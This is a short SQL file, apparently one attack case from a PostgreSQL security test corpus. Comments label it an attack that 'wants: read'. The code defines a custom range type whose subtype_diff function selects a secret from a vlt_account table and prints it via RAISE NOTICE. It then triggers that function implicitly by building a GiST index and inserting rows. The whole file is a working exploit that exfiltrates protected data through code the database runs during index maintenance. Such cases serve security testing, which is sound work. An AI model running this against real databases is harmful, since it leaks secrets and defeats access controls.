-- Inserts a range of an own type under a GiST index, which calls the type's subtype_diff.
-- wants: read
-- attack:
CREATE FUNCTION f_diff(int, int) RETURNS float8 IMMUTABLE LANGUAGE plpgsql AS $$BEGIN
  RAISE NOTICE '%', (SELECT secret FROM public.vlt_account WHERE id = 1); RETURN $1 - $2; END$$;
CREATE TYPE evilrange AS RANGE (subtype = int, subtype_diff = f_diff);
CREATE TABLE ranged (r evilrange);
CREATE INDEX ON ranged USING gist (r);
INSERT INTO ranged SELECT evilrange(g, g + 2) FROM generate_series(1, 2000) g;
